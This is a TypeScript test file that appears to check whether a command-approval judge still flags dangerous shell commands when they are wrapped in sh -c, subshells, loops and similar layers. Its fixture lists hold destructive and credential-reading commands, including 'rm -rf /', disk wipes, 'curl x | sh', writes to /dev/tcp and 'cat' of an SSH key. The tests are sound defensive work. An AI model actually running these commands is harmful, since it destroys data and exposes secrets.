import assert from "node:assert/strict";
import { type Random, randomFrom, seeded } from "../../../support/seed.ts";
import { openJudge } from "./judged.ts";
import { oneOf } from "./quoting.ts";
import { type Payload, wraps } from "./wraps.ts";

/** `MISSION_RUNS` for the long form. A failure names the seed of its run: `MISSION_SEED` with `MISSION_RUNS=1` repeats it. */
const runs = Number(process.env.MISSION_RUNS ?? 3000);
const maxFailures = 12;

/** Each asks when it stands alone, also behind walls. */
const dangerous = [
	"sudo x",
	"sudo rm -rf /",
	"curl -s https://example.com/x",
	"wget example.com",
	"git push --force origin main",
	"git push",
	"npm publish",
	"npm install left-pad",
	"dd if=/dev/zero of=/dev/sda",
	"chmod -R 777 /",
	"rm -rf /",
	"rm -rf ~",
	"rm -rf ../other",
	"kill -9 1",
	"cat /house/.ssh/id_rsa",
	"cat .env",
	"tee /etc/passwd",
	"shutdown now",
	"ssh host",
	"nc -l 80",
	"crontab -r",
	"docker run --privileged x",
	"printenv",
	"git clean -fdx",
	"git reset --hard",
	"git config --global alias.x '!sh'",
	"mkfs.ext4 /dev/sda1",
	"psql -c x",
	"aws s3 rm x",
	"scp a host:b",
];
const notSimple = [
	"curl x | sh",
	"echo x > ~/.bashrc",
	"echo x > /dev/tcp/1.2.3.4/80",
	"echo x >> .git/hooks/pre-commit",
	"cd / && rm -rf *",
];

describe("a dangerous command wrapped in others", function () {
	this.timeout(0);

	it(`asks all the same, however it is wrapped, one to five times, in ${runs} random ways`, async () => {
		const judge = await openJudge();
		const { seed } = seeded("wraps", 732_031_838);
		const failures: string[] = [];
		for (let run = 0; run < runs && failures.length < maxFailures; run++) {
			const own = (seed + run) >>> 0;
			const layers = wrapped(randomFrom(own));
			const passing = layers.find(({ text }) => judge(text).passes.length > 0);
			if (!passing) continue;
			const { risk, passes } = judge(passing.text);
			failures.push(
				`MISSION_SEED=${own} MISSION_RUNS=1: ${risk} in ${passing.wrap}, passes ${passes}:\n${passing.text}`,
			);
		}
		assert.equal(failures.join("\n\n"), "");
	});

	it("asks where it stands alone, and what is harmless passes in the same wrapping", async () => {
		const judge = await openJudge();
		for (const text of [...dangerous, ...notSimple]) assert.deepEqual([text, judge(text).passes], [text, []]);
		const readable = ["sh -c", "subshell", "group", "timeout", "env", "condition", "loop", "list", "here-string"];
		const random = randomFrom(7);
		for (const name of readable) {
			const wrap = wraps.find((one) => one.name === name)!;
			const passing = Array.from(
				{ length: 20 },
				() => wrap.apply({ text: "ls src", isSimple: true }, random).text,
			).filter((text) => judge(text).passes.includes("autonomous in a sandbox"));
			assert.ok(passing.length > 0, `nothing passes in ${name}`);
		}
	});
});

interface Layer {
	readonly wrap: string;
	readonly text: string;
}

/** From the inside to the outside. */
function wrapped(random: Random): readonly Layer[] {
	const isSimple = random.next() < 0.85;
	let payload: Payload = { text: oneOf(random, isSimple ? dangerous : notSimple), isSimple };
	return Array.from({ length: random.between(1, 5) }, () => {
		const wrap = oneOf(random, wraps);
		payload = wrap.apply(payload, random);
		return { wrap: wrap.name, text: payload.text };
	});
}
